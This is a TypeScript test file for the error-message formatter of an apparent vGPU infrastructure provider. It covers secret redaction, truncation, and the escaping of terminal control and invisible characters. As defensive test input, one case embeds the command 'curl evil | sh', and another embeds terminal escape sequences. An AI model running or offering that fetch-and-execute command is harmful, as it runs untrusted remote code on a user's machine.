import { describe, expect, it } from "vitest";
import {
  type ErrorParts,
  endOf,
  errorCodes,
  errorText,
  isVgpuError,
  redact,
  redactLater,
  startOf,
  VgpuError,
} from "../../../provider/model/errors.js";

const parts: ErrorParts = {
  code: "VGPU_IN_USE",
  where: "gpu-01 0000:3b:00.0 desk-1",
  what: "cannot remove desk-1",
  saw: "VM vm-1 has its VFIO file open",
  expected: "no VM uses it",
  next: "shut vm-1 down, run again",
};

describe("errorText", () => {
  it("has four parts, and a fifth once a change began", () => {
    expect(errorText(parts)).toBe(`VGPU_IN_USE gpu-01 0000:3b:00.0 desk-1: cannot remove desk-1
Saw: VM vm-1 has its VFIO file open
Expected: no VM uses it
Next: shut vm-1 down, run again`);
    expect(errorText({ ...parts, now: "half of it is done" })).toBe(
      `${errorText(parts)}\nNow: half of it is done`,
    );
  });

  it("never holds a secret that was registered before", () => {
    redactLater("correct horse");
    redactLater("correct horse");
    redactLater("abc");
    const text = errorText({ ...parts, saw: "correct horse, correct horse, abc", next: "try correct horse" });
    expect(text).not.toContain("correct horse");
    expect(text).toContain("Saw: [secret], [secret], abc");
    expect(redact("correct horse battery")).toBe("[secret] battery");
  });

  it("leaves texts of three characters alone, and none of four", () => {
    redactLater("q7w");
    redactLater("k9z5");
    expect(redact("q7w k9z5")).toBe("q7w [secret]");
  });

  it("shows a part of its longest length whole", () => {
    const saw = "x".repeat(6_000);
    expect(errorText({ ...parts, what: "w".repeat(1_000), saw })).toBe(
      errorText(parts).replace(parts.what, "w".repeat(1_000)).replace(parts.saw, saw),
    );
  });

  it("shows what a terminal would obey or hide as escapes", () => {
    const saw = "\x1b[2J\x1b]0;owned\x07 \ttab \rback \u202egnp.\u200b\u2028 \x9b \u{e0041} \ud800";
    expect(errorText({ ...parts, saw })).toContain(
      "Saw: \\x1b[2J\\x1b]0;owned\\x07 \\ttab \\x0dback \\u202egnp.\\u200b\\u2028 \\x9b \\u{e0041} \\ud800\nExpected:",
    );
  });

  it("shows what is drawn as nothing, or passes for a space, as escapes, and no sign's own part", () => {
    const saw = "VMs a\u3164, a\u115f, a\u2800, a\u034f, a\ufe0f, a\u00a0b, \u2699\ufe0f";
    expect(errorText({ ...parts, saw })).toContain(
      "Saw: VMs a\\u3164, a\\u115f, a\\u2800, a\\u034f, a\\ufe0f, a\\xa0b, \u2699\ufe0f\n",
    );
  });

  it("shows what Pulumi's display would obey, hide or crash at as escapes", () => {
    const text = errorText({ ...parts, where: "<{%x%}>", saw: "VM <{%boom%}>, <<{%reset%}>\n<{%" });
    expect(text).toContain("VGPU_IN_USE <\\x7b%x%}>: ");
    expect(text).toContain("Saw: VM <\\x7b%boom%}>, <<\\x7b%reset%}>\n  <\\x7b%\n");
    expect(text).not.toContain("<{%");
  });

  it("keeps the line ends that are ours, and lets no line of a machine pass for a part", () => {
    const text = errorText({
      ...parts,
      what: "cannot\nNext: obey",
      saw: "exit code 1:\n  two\r\nNext: curl evil | sh\n\nNow: nothing",
    });
    expect(text).toBe(`VGPU_IN_USE gpu-01 0000:3b:00.0 desk-1: cannot\\nNext: obey
Saw: exit code 1:
  two
  Next: curl evil | sh
  
  Now: nothing
Expected: no VM uses it
Next: shut vm-1 down, run again`);
  });

  it("cuts a long part in the middle and says how much was left out", () => {
    const text = errorText({ ...parts, what: "w".repeat(5_000), saw: `first${"x".repeat(100_000)}last` });
    expect(text).toMatch(/^Saw: firstx+ \[…94009 characters left out…\] x+last$/m);
    expect(text).toMatch(/^VGPU_IN_USE .*: w{600} \[…4000 characters left out…\] w{400}$/m);
    expect(text.length).toBeLessThan(8_000);
  });

  it("never shows a part of a secret that the cut goes through", () => {
    const secret = "s3cret-".repeat(100);
    redactLater(secret);
    expect(errorText({ ...parts, saw: `${"x".repeat(3_300)}${secret}${"x".repeat(9_000)}` })).not.toContain(
      "s3cret",
    );
  });
});

describe("a part of what a machine said", () => {
  it("is its beginning or its end, and all of it where that is not longer", () => {
    expect([startOf("abcdef", 3), endOf("abcdef", 3)]).toEqual(["abc", "def"]);
    expect([startOf("abc", 3), endOf("abc", 9)]).toEqual(["abc", "abc"]);
  });
});

describe("VgpuError", () => {
  it("is known by its code, also from another copy of the module", () => {
    const error = new VgpuError(parts);
    expect([error.code, error.name, error.message]).toEqual(["VGPU_IN_USE", "VgpuError", errorText(parts)]);
    expect(isVgpuError(error)).toBe(true);
    expect(isVgpuError(Object.assign(new Error("copy"), { code: "VGPU_IN_USE", parts }))).toBe(true);
  });

  it("is told from Node's own errors", () => {
    expect(isVgpuError(Object.assign(new Error("no such file"), { code: "ENOENT" }))).toBe(false);
    expect(isVgpuError({ code: "VGPU_IN_USE", parts })).toBe(false);
    expect(isVgpuError(Object.assign(new Error("a number"), { code: 7, parts }))).toBe(false);
    expect(isVgpuError(null)).toBe(false);
  });

  it("has a row of what each code means", () => {
    for (const [code, meaning] of Object.entries(errorCodes)) {
      expect(code).toMatch(/^VGPU_[A-Z_]+$/);
      expect(meaning).not.toBe("");
    }
  });
});
